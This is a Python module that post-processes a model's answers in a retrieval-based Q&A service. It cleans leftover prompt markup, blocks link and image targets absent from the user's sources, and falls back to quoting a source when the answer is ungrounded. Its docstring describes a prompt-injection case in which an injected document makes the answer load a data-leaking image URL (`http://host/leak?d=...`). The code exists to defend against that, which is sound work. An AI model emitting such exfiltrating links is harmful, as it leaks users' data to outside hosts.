"""What a generated answer becomes before anyone reads it: cleaned, made safe, or replaced by a quote.

/chat (streamed or not, and so the UI) and /v1 with documents both pass the model's text through
`AnswerPolicy.final`:

1. Clean-up: the prompt's markup and chat-template tags the stop strings did not catch (a tag in
   mid-sentence, a model that opens with `<documents>`), a leading "The answer to this
   question is:", and sentences that only restate an earlier one (`without_repeats`) are removed.
2. Safe links: a Markdown image or link, an autolink or a raw HTML tag is kept only as its text
   unless its target appears in the user's own sources (issue 26, point 7): a document carrying
   instructions cannot make the answer load `![x](http://host/leak?d=...)` in a client that
   renders Markdown.
3. Grounded or quoted: the grounding check (answers/grounding.py) judges each sentence against the
   sources. The answer is replaced by the passage of the sources that best matches the question
   (`best_passage`), quoted with its citation and marked `quote`, when
   - nothing is left (the model echoed its prompt or said nothing);
   - fewer than half of its sentences that make a claim are supported by the sources
     (KEEP_SUPPORTED_SHARE);
   - it shares no content word with the question (a verbatim passage about something else is
     "supported" but does not answer), or has none of its own (a bare yes or no: `adds_to`);
   - its words come from another source much more than from the one holding that passage (it
     answers the neighbouring FAQ entry: `from_the_passage`);
   - most of its sentences are questions (a model listing a FAQ's headings);
   - it writes an exact fact - a number, version, path, option, dotted name or `code`
     (answers.grounding.exact_facts) - that neither the sources nor the question hold (a small
     model invents commands: `CREATE_AUTOINCREMENT`, `git-gitfaq.php --creds`).
   So the reply is never empty or off the question when something relevant was found, and an
   answer the sources do not back is not presented as fact.
"""
from __future__ import annotations

import re
from collections.abc import Sequence
from dataclasses import dataclass
from typing import Any

from answers.grounding import MIN_CONTENT_WORDS, GroundingChecker, content_words, invented_facts
from common.text import in_code_block, sentences_of
from llm.settings import GenerationOverrides
from rag.retriever import Source

GENERATED, QUOTE, NO_CONTEXT = "generated", "quote", "no_context"
QUOTE_SENTENCES = 2
QUOTE_PIECES = 8  # lines or sentences in a quote at most, however few of them end a sentence
KEEP_SUPPORTED_SHARE = 0.5  # a generated answer stands when at least this share of its claims is backed
ELSEWHERE_MARGIN = 0.25  # from_the_passage: how much more of an answer another source may hold
RESTATES_SHARE = 0.8  # a sentence with this share of its content words from the question only restates it
MORE_SENTENCES_FACTOR = 3  # a question that asks for a list, the steps or an explanation
_ASKS_FOR_MORE = re.compile(r"\b(?:list|steps?|all|every|each|in detail|detailed|explain|describe|summari[sz]e|overview"
                            r"|examples?|compare|differences?|options)\b", re.IGNORECASE)

_MARKUP = re.compile(r"<\s*/?\s*(?:documents?|source)\b[^>]*>?|<\|[^|>]*\|>", re.IGNORECASE)
_PREFACE = re.compile(r"^\s*(?:(?:the\s+)?answer(?:\s+to\s+(?:this|the|your)\s+question)?\s+is\s*:|question:[^\n]*\n)\s*",
                      re.IGNORECASE)
_OPEN_TAG = re.compile(r"<[A-Za-z/][^<>]*$")  # a tag the answer ended inside of
_IMAGE = re.compile(r"!\[([^\]]*)\]\(\s*<?([^)\s>]*)>?(?:\s+\"[^\"]*\")?\s*\)")
_LINK = re.compile(r"(?<!!)\[([^\]]*)\]\(\s*<?([^)\s>]*)>?(?:\s+\"[^\"]*\")?\s*\)")
_AUTOLINK = re.compile(r"<((?:https?|ftp|mailto|file|data|javascript):[^>\s]*)>", re.IGNORECASE)
_BARE_URL = re.compile(r"(?<![\w(<\[`/])((?:https?|ftp|file)://[^\s<>()\[\]`]+|www\.[^\s<>()\[\]`]+)",
                       re.IGNORECASE)
_ENDS_SENTENCE = re.compile(r"[.!?:;][\"')\]]*$")
_NUMBERING = re.compile(r"^\s*(?:\(\d+\)|\d+(?:\.\d+)*[.:)]?)\s")  # a FAQ entry's "(26) " or "3.22: "
_TAG_START = re.compile(r"<(?=[A-Za-z/!?])")
_HTML_TAG = re.compile(r"</?[A-Za-z][A-Za-z0-9-]*(?:\s[^<>]*)?/?>")


def concise(question: str, overrides: GenerationOverrides | None, sentences: int) -> GenerationOverrides:
    """The request's settings with the answer's sentence limit (CHAT_ANSWER_SENTENCES; three times
    that when the question asks for a list, the steps or an explanation), unless it set its own."""
    overrides = overrides or GenerationOverrides()
    if overrides.max_sentences is not None or sentences <= 0:
        return overrides
    limit = sentences * MORE_SENTENCES_FACTOR if _ASKS_FOR_MORE.search(question) else sentences
    return overrides.model_copy(update={"max_sentences": limit})


@dataclass(frozen=True)
class FinalAnswer:
    text: str
    kind: str  # generated, quote or no_context
    grounding: dict[str, Any] | None = None  # a generated answer's check against its sources


def texts_of(sources: Sequence[Source]) -> str:
    """The sources' texts together: what a link's or an image's target must appear in."""
    return "\n".join(source.text for source in sources)


def clean(text: str) -> str:
    """The answer without the prompt's markup, chat-template tags, a leading "The answer is:" or
    "Question: ..." line, or a tag it ended inside of."""
    return _OPEN_TAG.sub("", _PREFACE.sub("", _MARKUP.sub("", text))).strip()


def without_repeats(text: str) -> str:
    """The answer less the sentences that say again what an earlier one said (all their content
    words, at least MIN_CONTENT_WORDS, already in one earlier sentence): a small model that runs out
    of things to say restates its first sentence in other orders until the loop guard stops it.
    Lines of a ``` code block are kept as they are."""
    kept: list[set[str]] = []
    pieces: list[str] = []
    written = 0
    for sentence, start, end in sentences_of(text):
        words = content_words(sentence)
        if not in_code_block(text, start) and len(words) >= MIN_CONTENT_WORDS and any(words <= earlier for earlier in kept):
            pieces.append(text[written:start])
            written = end + len(text[end:]) - len(text[end:].lstrip(" \t"))
            continue
        kept.append(words)
    if not pieces:
        return text.strip()
    pieces.append(text[written:])
    return re.sub(r"[ \t]+\n", "\n", re.sub(r"\n{3,}", "\n\n", "".join(pieces))).strip()


def neutralise(text: str, sources_text: str) -> str:
    """Markdown images and links, autolinks and HTML tags whose target (a tag: its whole text) is not
    in `sources_text` become their plain text, and such a bare address becomes code (renderers that
    link bare addresses leave code alone): nothing in an answer fetches or points anywhere the
    user's own documents do not, and a placeholder such as `<path>` that the documents write stays."""
    def image(match: re.Match[str]) -> str:
        alt, target = match.group(1), match.group(2)
        return match.group(0) if target and target in sources_text else (f"[image: {alt}]" if alt else "")

    def link(match: re.Match[str]) -> str:
        label, target = match.group(1), match.group(2)
        return match.group(0) if target and target in sources_text else label

    text = _IMAGE.sub(image, text)
    text = _LINK.sub(link, text)
    text = _AUTOLINK.sub(lambda match: match.group(0) if match.group(1) in sources_text else f"`{match.group(1)}`",
                         text)
    text = _BARE_URL.sub(lambda match: match.group(0) if match.group(1) in sources_text else f"`{match.group(1)}`",
                         text)
    return _HTML_TAG.sub(lambda match: match.group(0) if match.group(0) in sources_text else "", text)


def inert_markdown(text: str) -> str:
    """Text safe to paste into any Markdown viewer: HTML tags shown as text, images as a line naming
    their address (never fetched); for exports, where the sources' texts are not at hand."""
    text = _IMAGE.sub(lambda match: f"[image: {match.group(1)} `{match.group(2)}`]", text)
    return _TAG_START.sub("&lt;", text)


def best_passage(question: str, sources: Sequence[Source]) -> tuple[int, str]:
    """(1-based source number, passage): the sentence of the sources sharing the most content words
    with the question - its own words and those of its section's heading, so that under a heading
    that asks the question (a FAQ's entry, a manual's "How to ...") the answer is what follows it -
    and what follows it up to QUOTE_SENTENCES whole sentences (`_quote_end`); the top source's first
    sentences when none shares any. A question in the sources (a FAQ's heading) is where the answer
    starts, not the answer: the quote begins after it (`_answer_start`), and a chunk's own section
    heading is not quoted. On a tie, the passage the chunk holds whole wins (overlapping chunks cut
    it short), then the earlier sentence, then the higher-ranked source."""
    wanted = content_words(question)
    best: tuple[float, int, str] | None = None  # score, source number, the passage quoted
    for number, source in enumerate(sources, start=1):
        sentences = [text for text, _, _ in sentences_of(_without_heading(source))]
        heading = wanted & content_words(source.section or "")
        for index, sentence in enumerate(sentences):
            start = _answer_start(wanted, sentences, index)
            if start >= len(sentences):
                continue
            quote = sentences[start:_quote_end(sentences, start)]
            whole = sum(1 for text in quote if _ENDS_SENTENCE.search(text))
            score = len(heading | (wanted & content_words(sentence))) + 0.1 * whole - 0.01 * number
            if best is None or score > best[0]:
                best = (score, number, " ".join(quote))
    if best is None:  # every sentence asks or restates the question: the top source as it begins
        first = [text for text, _, _ in sentences_of(_without_heading(sources[0]))] if sources else []
        return 1, " ".join(first[:_quote_end(first, 0)])
    return best[1], best[2]


def _quote_end(sentences: Sequence[str], start: int) -> int:
    """Where a quote from sentence `start` ends: after QUOTE_SENTENCES sentences that end as a
    sentence does - a PDF's line breaks split sentences into lines, which are not counted - or
    QUOTE_PIECES pieces at most."""
    whole, end = 0, start
    while end < len(sentences) and end - start < QUOTE_PIECES and whole < QUOTE_SENTENCES:
        whole += bool(_ENDS_SENTENCE.search(sentences[end]))
        end += 1
    return end


def _answer_start(wanted: set[str], sentences: Sequence[str], index: int) -> int:
    """Where an answer found at sentence `index` starts: past the sentences there that ask a question
    or restate the question asked (a FAQ's heading, split into sentences or over lines, is where the
    answer begins, not the answer)."""
    while index < len(sentences) and (sentences[index].endswith("?") or restates(wanted, sentences[index])):
        index += 1
    return index


def restates(wanted: set[str], text: str) -> bool:
    """Whether `text` says nothing but the question's own words (RESTATES_SHARE of its content words,
    its numbering as a FAQ entry left out, are among `wanted`, the question's)."""
    words = content_words(_NUMBERING.sub("", text))
    return bool(words) and len(words & wanted) >= RESTATES_SHARE * len(words)


def _without_heading(source: Source) -> str:
    """The chunk's text less the section heading it starts with (Markdown and HTML chunks do)."""
    text = source.text.strip()
    heading = (source.section or "").strip()
    return text[len(heading):] if heading and text.startswith(heading) and len(text) > len(heading) else text


def quoted(sources: Sequence[Source], number: int, passage: str) -> str:
    """`passage` of source `number` (1-based; `best_passage`) as a Markdown quote, with its citation."""
    source = sources[number - 1]
    where = f", page {source.page}" if source.page is not None else ""
    where += f", {source.section}" if source.section else ""
    lines = "\n".join(f"> {line}" for line in " ".join(passage.split()).splitlines())
    return f"Quoted from {source.filename}{where} [{number}]:\n\n{lines}"


class SafeStream:
    """`neutralise` for an answer as it streams: text is released in whole words (an address is
    judged once it is complete), and up to the first `[`, `![` or `<` that may still open a link,
    an image or a tag, that part once it is complete (or clearly is none: a line break, 300
    characters, a `]` not followed by `(`), so no piece ever carries a target the sources do not
    hold. The pieces add up to `neutralise` of the whole text."""

    HOLD_AT_MOST = 300

    def __init__(self, sources_text: str) -> None:
        self._sources_text, self._pending = sources_text, ""

    def feed(self, piece: str) -> str:
        self._pending += piece
        released = ""
        while self._pending:
            opener = _next_opener(self._pending)
            if opener is None:  # whole words only: the last one may still be growing into an address
                words_end = max(self._pending.rfind(space) for space in " \n\t") + 1
                released, self._pending = released + self._pending[:words_end], self._pending[words_end:]
                break
            end = _construct_end(self._pending, opener)
            if end is None:  # may still become a link: hold from the opener on
                released, self._pending = released + self._pending[:opener], self._pending[opener:]
                break
            released, self._pending = released + self._pending[:end], self._pending[end:]
        return neutralise(released, self._sources_text)

    def flush(self) -> str:
        rest, self._pending = self._pending, ""
        return neutralise(rest, self._sources_text)


def _next_opener(text: str) -> int | None:
    found = [index for index in (text.find("["), text.find("<")) if index >= 0]
    if not found:
        return None
    index = min(found)
    return index - 1 if index > 0 and text[index] == "[" and text[index - 1] == "!" else index


def _construct_end(text: str, start: int) -> int | None:
    """Where the link, image or tag opening at `start` ends (exclusive), or where it is clear that
    none opens there; None while that is not known yet."""
    tail = text[start:]
    newline = tail.find("\n")
    if 0 <= newline:
        return start + newline + 1
    if len(tail) > SafeStream.HOLD_AT_MOST:
        return len(text)
    if tail.startswith("<"):
        if len(tail) > 1 and not (tail[1].isalpha() or tail[1] == "/"):
            return start + 1
        close = tail.find(">")
        return None if close < 0 else start + close + 1
    label_end = tail.find("]")
    if label_end < 0 or label_end + 1 >= len(tail):
        return None
    if tail[label_end + 1] != "(":
        return start + label_end + 1
    close = tail.find(")", label_end)
    return None if close < 0 else start + close + 1


def on_the_question(question: str, answer: str, given: str) -> bool:
    """Whether an answer may stand as the model's own before its sentences are checked: it says
    something, shares a word with the question, is not mostly questions itself (a model listing a
    FAQ's headings) and invents no exact fact (`given`: the sources and the question)."""
    sentences = [text for text, _, _ in sentences_of(answer)]
    asking = sum(1 for sentence in sentences if sentence.endswith("?"))
    return (bool(answer) and addresses(question, answer) and 2 * asking < len(sentences)
            and not invented_facts(answer, given))


def adds_to(question: str, answer: str) -> bool:
    """Whether the answer says something the question did not: a content word of its own. "No, there
    are no known size limits" only restates "Are there any known size limits?" with a yes or a no,
    which no source can be checked for."""
    return bool(content_words(answer) - content_words(question))


def from_the_passage(answer: str, sources: Sequence[Source], number: int) -> bool:
    """Whether the answer's words come from source `number` (the one holding the passage that best
    matches the question) about as much as from any other: within ELSEWHERE_MARGIN of the share of
    its content words found in the most-matched other source. An answer drawn from a neighbouring
    chunk - the next FAQ entry, another command's section - answers a neighbouring question."""
    words = content_words(answer)
    if not words or len(sources) < 2:
        return True
    shares = [len(words & content_words(source.text)) / len(words) for source in sources]
    elsewhere = max(share for index, share in enumerate(shares, start=1) if index != number)
    return elsewhere - shares[number - 1] <= ELSEWHERE_MARGIN


def addresses(question: str, answer: str) -> bool:
    """Whether the answer shares a content word with the question (any, for a question without one)."""
    wanted = content_words(question)
    return not wanted or bool(wanted & content_words(answer))


class AnswerPolicy:
    """The model's text as it is shown and stored (see the module's docstring)."""

    def __init__(self, grounding: GroundingChecker) -> None:
        self._grounding = grounding

    def final(self, question: str, text: str, sources: Sequence[Source], asked_as: str | None = None) -> FinalAnswer:
        """`asked_as`: a follow-up's standalone form (with its subject), used to choose the quote."""
        sources_text = texts_of(sources)
        answer = without_repeats(neutralise(clean(text), sources_text))
        if not sources:
            return FinalAnswer(answer, GENERATED)
        asked = asked_as or question
        number, passage = best_passage(asked, sources)
        if (on_the_question(question, answer, f"{sources_text}\n{question}") and adds_to(asked, answer)
                and from_the_passage(answer, sources, number)):
            grounding = self._grounding.check(answer, sources).as_dict()
            share = grounding["supported_share"]
            if share is None or share >= KEEP_SUPPORTED_SHARE:  # most claims backed, or none made
                return FinalAnswer(answer, GENERATED, grounding)
        return FinalAnswer(quoted(sources, number, passage), QUOTE)
